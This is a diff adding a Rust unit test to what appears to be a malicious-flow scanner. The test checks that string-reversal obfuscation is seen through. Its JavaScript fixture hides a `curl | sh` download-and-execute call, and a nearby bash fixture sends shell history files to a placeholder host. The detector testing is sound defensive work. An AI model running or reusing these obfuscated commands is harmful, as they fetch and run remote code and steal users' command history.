@@ -634,6 +634,23 @@ fn downloaded_code_that_reaches_a_runner_is_a_download_exec_flow() {
 }
 
 #[test]
+fn javascript_strings_and_arrays_reversed_are_read_reversed() {
+    let js =
+        "function check() {\n  const m = String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115);\n  \
+              const u = 'hs.u/pmx.dilavni.x//:sptth'.split('').reverse().join('');\n  \
+              const c = ['sh', '|', u, '-fsSL', 'curl'].reverse().join(' ');\n  \
+              require(m)[['ex', 'ec'].join('')](c, () => {});\n}\ncheck();\n";
+    let out = flows(&[("d.js", js)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!((out[0].finding.rule, out[0].finding.line), (RuleId::DownloadExec, 5));
+    // Reversed data that is only printed, and a command that reverses to
+    // nothing that fetches, are not.
+    let quiet = "const cp = require('child_process');\nconst w = 'olleh'.split('').reverse().join('');\n\
+                 console.log(w);\ncp.exec(['-la', 'ls'].reverse().join(' '));\n";
+    assert!(flows(&[("q.js", quiet)]).is_empty());
+}
+
+#[test]
 fn shell_histories_read_in_a_group_piped_to_the_network_are_a_flow() {
     let sh = "#!/bin/bash\n{\n  cat \"$HOME/.zsh_history\" \"$HOME/.bash_history\" 2>/dev/null\n} | gzip | curl -s -X POST --data-binary @- https://h.invalid/s\n";
     let out = flows(&[("s.sh", sh)]);
